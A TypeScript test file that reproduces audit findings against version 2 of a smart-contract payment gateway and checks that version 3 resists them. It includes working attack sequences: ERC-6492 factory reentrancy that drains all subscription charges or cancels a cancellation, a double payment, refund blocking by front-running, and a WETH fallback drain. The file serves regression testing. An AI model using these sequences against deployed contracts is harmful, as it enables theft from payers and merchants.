/**
 * The attacks of the audit of gateway version 2 (issue 38), run against version 2 as it was deployed (the frozen
 * `solidity/v2`, which loses) and against this version (which holds), on one chain: the same forwarder, signer,
 * treasury, tokens and attacker. Each test asserts what each version does, so a regression of version 3 fails it, and
 * so does a version 2 that no longer shows the attack (a reproduction gone stale).
 */
import { randomBytes } from "node:crypto";

import { describe, expect, it } from "vitest";
import {
  encodeFunctionData,
  hashTypedData,
  parseEther,
  parseEventLogs,
  parseUnits,
  type Address,
  type Hex,
  type SignedAuthorization,
  type TransactionReceipt,
} from "viem";

import {
  cancelSubscriptionTypedData,
  computeFee,
  depositAuthorization,
  depositAddress,
  depositReturnTypedData,
  paymentGatewayAbi,
  paymentIdOf,
  paymentIntentTypedData,
  reentrantFactoryAbi,
  signPaymentRequest,
  signRefundRequest,
  subscriptionDigest,
  subscriptionTypedData,
  testWrappedNativeAbi,
  wrapErc6492Signature,
  type DepositReturn,
  type DepositTerms,
  type PaymentRequest,
  type Subscription,
} from "../src/index.js";
import {
  createSmartWalletCalldata,
  deployGatewayV2,
  deployReentrantFactory,
  deployWrappedNative,
} from "../src/dev.js";
import { defaultFeeBps, expectRevert, id } from "./fixture.js";
import { setupChainWithRealTokens } from "./realTokens.js";

const { c, t } = await setupChainWithRealTokens();
const { accounts, chainId, publicClient } = c;
const deployParams = { walletClient: c.deployer, publicClient };
const gatewayV2 = await deployGatewayV2({
  ...deployParams,
  forwarder: c.forwarder,
  signer: accounts.signer.address,
  treasury: accounts.treasury.address,
  defaultFeeBps,
});
const attacker = accounts.other;

interface Version {
  version: 2 | 3;
  gateway: Address;
}
const versions: [string, Version][] = [
  ["version 2 (loses)", { version: 2, gateway: gatewayV2 }],
  ["version 3 (holds)", { version: 3, gateway: c.gateway }],
];

/** Sends `functionName` to `gateway` from `from`, and returns the receipt (reverted or not). */
async function send(
  from: typeof attacker,
  gateway: Address,
  functionName: string,
  args: readonly unknown[],
  authorizationList?: SignedAuthorization[],
): Promise<TransactionReceipt> {
  const hash = await c.wallet(from).sendTransaction({
    to: gateway,
    data: encodeFunctionData({ abi: paymentGatewayAbi, functionName, args } as Parameters<
      typeof encodeFunctionData
    >[0]),
    gas: 3_000_000n,
    ...(authorizationList ? { authorizationList } : {}),
  });
  return publicClient.waitForTransactionReceipt({ hash });
}

function events(receipt: TransactionReceipt, gateway: Address, eventName: string) {
  return parseEventLogs({
    abi: paymentGatewayAbi,
    logs: receipt.logs.filter((log) => log.address.toLowerCase() === gateway.toLowerCase()),
    eventName: eventName as "PaymentCompleted",
  });
}

/** An attacker's ERC-6492 factory armed with `calls`, and the envelope naming it around `signature`. */
async function reentrantEnvelope(
  signature: Hex,
  calls: { target: Address; data: Hex }[],
  times = 1n,
): Promise<{ factory: Address; envelope: Hex }> {
  const factory = await deployReentrantFactory(deployParams);
  await c.mined(
    await c.wallet(attacker).writeContract({
      address: factory,
      abi: reentrantFactoryAbi,
      functionName: "arm",
      args: [calls, times],
    }),
  );
  const envelope = wrapErc6492Signature({
    factory,
    factoryCalldata: encodeFunctionData({ abi: reentrantFactoryAbi, functionName: "run" }),
    signature,
  });
  return { factory, envelope };
}

function factoryRuns(factory: Address) {
  return publicClient.readContract({ address: factory, abi: reentrantFactoryAbi, functionName: "runs" });
}

const usdc = parseUnits("10", 6);

async function fixedPlan(gateway: Address, payer: Address = accounts.payer.address) {
  const subscription: Subscription = {
    subscriptionId: id(`subscription ${randomBytes(8).toString("hex")}`),
    payer,
    tokenAddress: t.usdc,
    amount: usdc,
    variableAmount: false,
    usePermit2: false,
    recipientAddress: accounts.merchant.address,
    merchantId: id("merchant 1"),
    period: 86_400n,
    startsAt: await c.now(),
    charges: 12n,
  };
  const typedData = subscriptionTypedData({ chainId, gateway, subscription });
  return { subscription, serverSignature: await accounts.signer.signTypedData(typedData), typedData };
}

const firstCharge = { period: 0n, amount: usdc, deadline: 0n };

/** The attacker sends the first charge of `plan` to `gateway`, the payer's signature `payerSignature`; the receipt. */
function chargeFirst(
  gateway: Address,
  plan: { subscription: Subscription; serverSignature: Hex },
  payerSignature: Hex,
): Promise<TransactionReceipt> {
  return send(attacker, gateway, "chargeSubscription", [
    plan.subscription,
    firstCharge,
    plan.serverSignature,
    payerSignature,
  ]);
}

describe.each(versions)("a subscription's first charge, %s", (_, { version, gateway }) => {
  it("is taken once when the submitter wraps the payer's ECDSA signature in an envelope whose factory re-enters", async () => {
    // What the subscribe page approves: 12 charges of 10.
    await t.mintUsdc(accounts.payer.address, usdc * 12n);
    await c.approve(accounts.payer, t.usdc, gateway, usdc * 12n);
    const { subscription, serverSignature, typedData } = await fixedPlan(gateway);
    // Both first-charge signatures are in the relayer's calldata: the attacker has them.
    const payerSignature = await accounts.payer.signTypedData(typedData);
    const chargeCall = (envelope: Hex) =>
      encodeFunctionData({
        abi: paymentGatewayAbi,
        functionName: "chargeSubscription",
        args: [subscription, firstCharge, serverSignature, envelope],
      });
    // The factory re-enters with the same envelope: its placeholder is replaced once the envelope is known.
    const factory = await deployReentrantFactory(deployParams);
    const envelope = wrapErc6492Signature({
      factory,
      factoryCalldata: encodeFunctionData({ abi: reentrantFactoryAbi, functionName: "run" }),
      signature: payerSignature,
    });
    await c.mined(
      await c.wallet(attacker).writeContract({
        address: factory,
        abi: reentrantFactoryAbi,
        functionName: "arm",
        args: [[{ target: gateway, data: chargeCall(envelope) }], 11n],
      }),
    );
    const receipt = await chargeFirst(gateway, { subscription, serverSignature }, envelope);
    expect(receipt.status).toBe("success");
    const charged = events(receipt, gateway, "SubscriptionCharged");
    const left = await c.balanceOf(t.usdc, accounts.payer.address);
    if (version === 2) {
      // All twelve approved charges, in period 0, in one transaction.
      expect(charged).toHaveLength(12);
      expect(left).toBe(0n);
      expect(await factoryRuns(factory)).toBe(12n);
    } else {
      // The payer's ECDSA signature verifies without the envelope: its factory never runs.
      expect(charged).toHaveLength(1);
      expect(left).toBe(usdc * 11n);
      expect(await factoryRuns(factory)).toBe(0n);
    }
  });

  it("cannot have a cancellation sent inside it overwritten (the payer's cancellation holds)", async () => {
    await t.mintUsdc(accounts.payer.address, usdc * 12n);
    await c.approve(accounts.payer, t.usdc, gateway, usdc * 12n);
    const { subscription, serverSignature, typedData } = await fixedPlan(gateway);
    const payerSignature = await accounts.payer.signTypedData(typedData);
    // The payer's signed cancellation, on its way (anyone may send it): the attacker sends it from the factory.
    const cancelSignature = await accounts.payer.signTypedData(
      cancelSubscriptionTypedData({ chainId, gateway, subscription }),
    );
    const { factory, envelope } = await reentrantEnvelope(payerSignature, [
      {
        target: gateway,
        data: encodeFunctionData({
          abi: paymentGatewayAbi,
          functionName: "cancelSubscriptionBySignature",
          args: [subscription, cancelSignature],
        }),
      },
    ]);
    const receipt = await chargeFirst(gateway, { subscription, serverSignature }, envelope);
    expect(receipt.status).toBe("success");
    const key = subscriptionDigest({ chainId, gateway, subscription });
    const canceledInside = events(receipt, gateway, "SubscriptionCanceled").length;
    if (version === 3) {
      expect(await factoryRuns(factory)).toBe(0n);
      expect(canceledInside).toBe(0);
      // The cancellation arrives on its own, after the charge, and holds.
      await c.mined(
        await c.wallet(accounts.relayer).writeContract({
          address: gateway,
          abi: paymentGatewayAbi,
          functionName: "cancelSubscriptionBySignature",
          args: [subscription, cancelSignature],
        }),
      );
    } else {
      // SubscriptionCanceled was emitted, but the charge's stale write erased it.
      expect(canceledInside).toBe(1);
    }
    const [active, canceled] = await publicClient.readContract({
      address: gateway,
      abi: paymentGatewayAbi,
      functionName: "subscriptionState",
      args: [key, 1n],
    });
    expect({ active, canceled }).toEqual({ active: true, canceled: version === 3 });
    await c.testClient.increaseTime({ seconds: 86_400 });
    await c.testClient.mine({ blocks: 1 });
    const next = await send(accounts.relayer, gateway, "chargeSubscription", [
      subscription,
      { period: 1n, amount: usdc, deadline: 0n },
      "0x",
      "0x",
    ]);
    // Version 2 charges period 1 of a subscription its payer canceled.
    expect(next.status).toBe(version === 2 ? "success" : "reverted");
  });
});

describe("the reentrancy lock of version 3", () => {
  it("spans both halves: a factory that must run (an undeployed wallet) cannot enter the gateway from the extension", async () => {
    const gateway = c.gateway;
    // A victim's first charge, both signatures public: what the attacker's factory tries to send from inside.
    await t.mintUsdc(accounts.payer.address, usdc);
    await c.approve(accounts.payer, t.usdc, gateway, usdc);
    const victim = await fixedPlan(gateway);
    const victimCharge = encodeFunctionData({
      abi: paymentGatewayAbi,
      functionName: "chargeSubscription",
      args: [
        victim.subscription,
        firstCharge,
        victim.serverSignature,
        await accounts.payer.signTypedData(victim.typedData),
      ],
    });
    // A wallet that does not exist yet cancels its own subscription by signature (the extension's function): its
    // signature needs the envelope's factory, which deploys it, then tries the victim's charge (the gateway's).
    const owner = accounts.merchant;
    const wallet = await t.walletAddress(owner.address, 9n);
    const { subscription } = await fixedPlan(gateway, wallet);
    const cancelSignature = await t.walletSignature(
      owner,
      wallet,
      hashTypedData(cancelSubscriptionTypedData({ chainId, gateway, subscription })),
    );
    const { factory, envelope } = await reentrantEnvelope(cancelSignature, [
      { target: t.walletFactory, data: createSmartWalletCalldata(owner.address, 9n) },
      { target: gateway, data: victimCharge },
    ]);
    const receipt = await send(attacker, gateway, "cancelSubscriptionBySignature", [subscription, envelope]);
    expect(receipt.status).toBe("success");
    expect(events(receipt, gateway, "SubscriptionCanceled")).toHaveLength(1);
    expect(await factoryRuns(factory)).toBe(1n);
    // The wallet was deployed; the charge sent from inside was refused (ReentrancyGuardReentrantCall).
    expect(
      await publicClient.readContract({
        address: factory,
        abi: reentrantFactoryAbi,
        functionName: "succeeded",
      }),
    ).toBe(1n);
    expect(await c.balanceOf(t.usdc, accounts.payer.address)).toBe(usdc);
    // From outside, the same charge goes through.
    expect(
      (await chargeFirst(gateway, victim, await accounts.payer.signTypedData(victim.typedData))).status,
    ).toBe("success");
  });
});

/** Made-up deposit terms naming the attacker as the recipient (nothing ever signed them). */
function madeUpTerms(): DepositTerms {
  return {
    paymentId: id(`made up ${randomBytes(8).toString("hex")}`),
    tokenAddress: c.tokens.permit18,
    amount: 1n,
    minimumAmount: 1n,
    recipientAddress: attacker.address,
    merchantId: id("nobody"),
    feeBps: 0,
  };
}

/**
 * A return of 0 from the made-up terms' (empty) deposit address, signed by the attacker as their recipient, with
 * return id `returnId`; for version 3 the transaction carries the account's authorization, so the return gets as
 * far as it can.
 */
async function madeUpReturn(
  gateway: Address,
  version: 2 | 3,
  returnId: Hex,
  signatureOf?: (s: Hex) => Promise<Hex>,
) {
  const terms = madeUpTerms();
  const request: DepositReturn = {
    deposit: depositAddress({ chainId, gateway, terms, gatewayVersion: version }),
    returnId,
    tokenAddress: c.tokens.permit18,
    to: attacker.address,
    amount: 0n,
    deadline: (await c.now()) + 3_600n,
  };
  const signature = await attacker.signTypedData(depositReturnTypedData({ chainId, gateway, request }));
  return send(
    attacker,
    gateway,
    "returnDeposit",
    [terms, request, signatureOf ? await signatureOf(signature) : signature],
    version === 3 ? [depositAuthorization({ chainId, gateway, terms })] : undefined,
  );
}

describe.each(versions)("a payment by intent, %s", (_, { version, gateway }) => {
  it("is paid once when a return's factory submits it and the same two signatures are sent again", async () => {
    const amount = parseEther("25");
    await c.mint(c.tokens.permit18, accounts.payer.address, amount * 2n);
    await c.approve(accounts.payer, c.tokens.permit18, gateway, amount * 2n);
    // The victim's pending payWithIntent: both signatures are public once it is in the mempool.
    const sequence = 5_000n + BigInt(randomBytes(1)[0]!);
    const request: PaymentRequest = {
      paymentId: paymentIdOf(sequence, randomBytes(24)),
      tokenAddress: c.tokens.permit18,
      amount,
      recipientAddress: accounts.merchant.address,
      merchantId: id("merchant 1"),
      deadline: (await c.now()) + 3_600n,
    };
    const serverSignature = await signPaymentRequest(accounts.signer, { chainId, gateway, request });
    const payerSignature = await accounts.payer.signTypedData(
      paymentIntentTypedData({ chainId, gateway, request, payer: accounts.payer.address }),
    );
    const payWithIntent = encodeFunctionData({
      abi: paymentGatewayAbi,
      functionName: "payWithIntent",
      args: [request, serverSignature, accounts.payer.address, payerSignature],
    });
    // The attacker's return id shares the victim's bitmap word (version 2 keeps returns in the payments bitmap).
    let factory: Address | undefined;
    const returned = await madeUpReturn(
      gateway,
      version,
      paymentIdOf(sequence + 1n, randomBytes(24)),
      async (s) => {
        const armed = await reentrantEnvelope(s, [{ target: gateway, data: payWithIntent }]);
        factory = armed.factory;
        return armed.envelope;
      },
    );
    expect(returned.status).toBe("success");
    const completed = [...events(returned, gateway, "PaymentCompleted")];
    for (let replay = 0; replay < 2; replay++) {
      const again = await send(attacker, gateway, "payWithIntent", [
        request,
        serverSignature,
        accounts.payer.address,
        payerSignature,
      ]);
      completed.push(...events(again, gateway, "PaymentCompleted"));
    }
    const paid = await c.balanceOf(c.tokens.permit18, accounts.payer.address);
    if (version === 2) {
      // Two PaymentCompleted for one id: the payer paid twice.
      expect(completed).toHaveLength(2);
      expect(paid).toBe(0n);
    } else {
      expect(await factoryRuns(factory as Address)).toBe(0n);
      expect(completed).toHaveLength(1);
      expect(paid).toBe(amount);
    }
    expect(completed.every((event) => event.args.paymentId === request.paymentId)).toBe(true);
  });
});

describe.each(versions)("a merchant's refund, %s", (_, { version, gateway }) => {
  it("cannot be blocked by a stranger's return of 0 from made-up terms with the refund's id", async () => {
    const amount = parseEther("25");
    await c.mint(c.tokens.permit18, accounts.payer.address, amount);
    await c.approve(accounts.payer, c.tokens.permit18, gateway, amount);
    // The fixture's request, signed for this gateway.
    const { request } = await c.paymentRequest();
    const signed = await signPaymentRequest(accounts.signer, { chainId, gateway, request });
    await c.mined(
      await c.wallet(accounts.payer).writeContract({
        address: gateway,
        abi: paymentGatewayAbi,
        functionName: "pay",
        args: c.payArgs({ request, serverSignature: signed }),
      }),
    );
    const refund = {
      paymentId: request.paymentId,
      refundId: c.nextPaymentId(),
      tokenAddress: c.tokens.permit18,
      payerAddress: accounts.payer.address,
      amount: parseEther("10"),
      deadline: (await c.now()) + 3_600n,
    };
    const refundSignature = await signRefundRequest(accounts.signer, { chainId, gateway, request: refund });
    // The stranger front-runs the refund with a return whose id is the refund's.
    expect((await madeUpReturn(gateway, version, refund.refundId)).status).toBe("success");
    await c.approve(accounts.merchant, c.tokens.permit18, gateway, refund.amount);
    const refunded = c.wallet(accounts.merchant).writeContract({
      address: gateway,
      abi: paymentGatewayAbi,
      functionName: "refund",
      args: [
        refund.paymentId,
        refund.refundId,
        refund.tokenAddress,
        refund.payerAddress,
        refund.amount,
        refund.deadline,
        refundSignature,
      ],
    });
    if (version === 2) {
      await expectRevert(refunded, "RefundAlreadyProcessed", [refund.refundId]);
    } else {
      await c.mined(await refunded);
    }
    expect(await c.balanceOf(c.tokens.permit18, accounts.payer.address)).toBe(
      version === 2 ? 0n : refund.amount,
    );
  });
});

describe.each(versions)("payWithAuthorization on a WETH9-like token, %s", (_, { version, gateway }) => {
  it("pays nothing out of what the gateway holds when the token's fallback accepts the call", async () => {
    const weth = await deployWrappedNative(deployParams);
    const amount = parseEther("1");
    // Someone sent wrapped coin to the gateway by mistake.
    const sender = c.wallet(accounts.relayer);
    await c.mined(await sender.sendTransaction({ to: weth, value: amount }));
    await c.mined(
      await sender.writeContract({
        address: weth,
        abi: testWrappedNativeAbi,
        functionName: "transfer",
        args: [gateway, amount],
      }),
    );
    // A payment in the (whitelisted) wrapped coin, signed by the service; the "payer" signs nothing real.
    const request: PaymentRequest = {
      paymentId: c.nextPaymentId(),
      tokenAddress: weth,
      amount,
      recipientAddress: attacker.address,
      merchantId: id("merchant 1"),
      deadline: (await c.now()) + 3_600n,
    };
    const serverSignature = await signPaymentRequest(accounts.signer, { chainId, gateway, request });
    const args = [request, serverSignature, attacker.address, `0x${"11".repeat(65)}`] as const;
    const balanceOf = (account: Address) =>
      publicClient.readContract({
        address: weth,
        abi: testWrappedNativeAbi,
        functionName: "balanceOf",
        args: [account],
      });
    if (version === 2) {
      const receipt = await send(attacker, gateway, "payWithAuthorization", args);
      expect(receipt.status).toBe("success");
      expect(events(receipt, gateway, "PaymentCompleted")).toHaveLength(1);
      expect(await balanceOf(gateway)).toBe(0n);
      expect(await balanceOf(attacker.address)).toBe(amount - computeFee(amount, defaultFeeBps));
    } else {
      await expectRevert(
        c.wallet(attacker).writeContract({
          address: gateway,
          abi: paymentGatewayAbi,
          functionName: "payWithAuthorization",
          args,
        }),
        "PaymentNotReceived",
        [request.paymentId, amount, 0n],
      );
      expect(await balanceOf(gateway)).toBe(amount);
    }
  });
});
